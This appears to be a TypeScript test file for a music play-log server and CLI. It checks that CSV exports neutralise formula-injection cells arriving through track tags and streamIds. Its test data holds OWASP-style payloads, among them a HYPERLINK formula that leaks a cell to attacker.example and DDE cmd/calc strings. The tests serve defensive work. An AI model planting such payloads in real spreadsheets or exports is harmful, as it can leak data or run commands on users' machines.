/**
 * CSV formula injection: titles, artists and albums come from tags, and a client stream's plays are filed under the
 * streamId it chose. A cell starting with = + - @ (or a tab or CR before one) must reach a spreadsheet as text: the
 * server's CSV export, `earshot plays --csv` and `earshot plays --daily --csv` all neutralise it (a leading single
 * quote, the cell quoted), and numbers stay numbers.
 */
import t from 'tap'
import path from 'node:path'
import { csvCell, toCsv } from '../../server/src/playlog/csv.js'
import { buildCatalog } from '../helpers/catalog.js'
import { childEnv, runEarshot } from '../helpers/child-env.js'
import { earshotInProcess } from '../helpers/cli-in-process.js'
import { startServer, testSettings, TRANSPORTS } from '../helpers/stream-helpers.js'

/** Payloads from the OWASP CSV injection page and the usual variants, one per leading character. */
const HOSTILE = {
  title: '=HYPERLINK("http://attacker.example/?leak="&A1,"Click me")',
  artist: '+cmd|\' /C calc\'!A0',
  album: '@SUM(1+9)*cmd|\' /C calc\'!A0',
  stream: '-2+3+cmd|\' /C calc\'!A0',
}
const TAB_LED = '\t=1+2'
const CR_LED = '\r=1+2'

/** RFC 4180 cells of a CSV document: rows of raw cell texts (as written) and of values (unquoted). */
function parseCsv (text: string): { raw: string[][], values: string[][] } {
  const raw: string[][] = []
  const values: string[][] = []
  let i = 0
  while (i < text.length) {
    const rawRow: string[] = []
    const row: string[] = []
    for (;;) {
      const start = i
      let value = ''
      if (text[i] === '"') {
        i++
        for (;;) {
          const q = text.indexOf('"', i)
          if (q < 0) throw new Error('unterminated quote')
          value += text.slice(i, q)
          i = q + 1
          if (text[i] === '"') { value += '"'; i++ } else break
        }
      } else {
        while (i < text.length && text[i] !== ',' && text[i] !== '\r') i++
        value = text.slice(start, i)
      }
      rawRow.push(text.slice(start, i))
      row.push(value)
      if (text[i] === ',') { i++; continue }
      if (text.startsWith('\r\n', i)) { i += 2; break }
      throw new Error(`bad CSV at ${i}: ${JSON.stringify(text.slice(i, i + 20))}`)
    }
    raw.push(rawRow)
    values.push(row)
  }
  return { raw, values }
}

/** Every cell of a document that a spreadsheet would run as a formula. */
function formulaCells (text: string): string[] {
  return parseCsv(text).values.flat().filter((v) => /^[=+\-@\t\r]/.test(v) && !/^-?\d+(\.\d+)?$/.test(v))
}

t.test('csvCell: text that would start a formula is quoted behind a single quote; numbers and plain text are not', async (t) => {
  for (const v of [...Object.values(HOSTILE), TAB_LED, CR_LED, '=', '-', '@x', '+1']) {
    const cell = csvCell(v)
    t.equal(cell, `"'${v.replace(/"/g, '""')}"`, `${JSON.stringify(v)} neutralised`)
    t.same(parseCsv(cell + '\r\n').values, [[`'${v}`]], `${JSON.stringify(v)} reads back as text with its quote`)
  }
  t.equal(csvCell(-1.5), '-1.5', 'a negative number is data')
  t.equal(csvCell(0), '0')
  t.equal(csvCell(null), '')
  t.equal(csvCell(undefined), '')
  t.equal(csvCell(false), 'false')
  t.equal(csvCell('song 3, "live"'), '"song 3, ""live"""', 'commas and quotes are quoted as before')
  t.equal(csvCell('a=b'), 'a=b', 'a formula character inside a cell is harmless')
  t.equal(toCsv(['a', 'b'], [['=1', 2]]), 'a,b\r\n"\'=1",2\r\n')
})

for (const transport of TRANSPORTS) {
  t.test(`${transport}: hostile tags and a hostile streamId reach no CSV as formulas (server export, earshot plays --csv, --daily --csv)`, async (t) => {
    const dir = t.testdir()
    const { index } = buildCatalog(path.join(dir, 'db'), [3], 10)
    t.teardown(() => index.close())
    const { server, http } = await startServer(t, transport, index, testSettings())
    // Rows filed through the server's own play log, as a client stream with this streamId and a track with these tags would.
    const log = server.services.plays
    const startedAt = Date.now() - 60_000
    const rows = [HOSTILE, { ...HOSTILE, title: TAB_LED, stream: CR_LED }]
    for (const [i, r] of rows.entries()) {
      const p = log.open({ stream: r.stream, kind: 'client', trackId: 1, title: r.title, artist: r.artist, album: r.album, startedAt: new Date(startedAt + i).toISOString(), startStreamSeconds: 0, startOffsetSeconds: -1.5, peakConfidence: 0.9 })
      log.close(p.id, { endedAt: new Date(startedAt + 30_000).toISOString(), endStreamSeconds: 30, endOffsetSeconds: 28.5 })
    }
    await log.flushed()

    const res = await fetch(`${http}/v1/plays?format=csv`)
    t.equal(res.status, 200)
    const csv = await res.text()
    t.same(formulaCells(csv), [], 'the server export holds no formula cell')
    const { values, raw } = parseCsv(csv)
    const header = values[0]
    const newest = values[2] // newest first: row 0 of `rows` is the second line of data
    t.equal(newest[header.indexOf('title')], `'${HOSTILE.title}`, 'the title reads as text behind its quote')
    t.equal(newest[header.indexOf('stream')], `'${HOSTILE.stream}`, 'the streamId too')
    t.equal(values[1][header.indexOf('title')], `'${TAB_LED}`, 'a tab-led title too')
    t.equal(values[1][header.indexOf('stream')], `'${CR_LED}`, 'a CR-led streamId too')
    t.equal(raw[2][header.indexOf('startOffsetSeconds')], '-1.5', 'a negative number is written as it is')

    // In this process (runCli, as the program calls it), but once: the program itself, as a user runs it.
    const earshot = (args: string[]) => transport === TRANSPORTS[0] && args.includes('--daily') === false
      ? runEarshot(dir, args, childEnv({}, ['EARSHOT_TOKEN']))
      : earshotInProcess(dir, args)
    const cli = await earshot(['plays', '--csv', '--server', http])
    t.equal(cli.code, 0, cli.stderr)
    t.same(formulaCells(cli.stdout), [], 'earshot plays --csv holds no formula cell')
    t.equal(parseCsv(cli.stdout).values.length, 3, 'a header and both rows')

    const daily = await earshot(['plays', '--daily', '--csv', '--server', http])
    t.equal(daily.code, 0, daily.stderr)
    t.same(formulaCells(daily.stdout), [], 'earshot plays --daily --csv holds no formula cell')
    t.ok(parseCsv(daily.stdout).values.some((row) => row.includes(`'${HOSTILE.title}`)), 'the daily CSV has the title as text')
  })
}
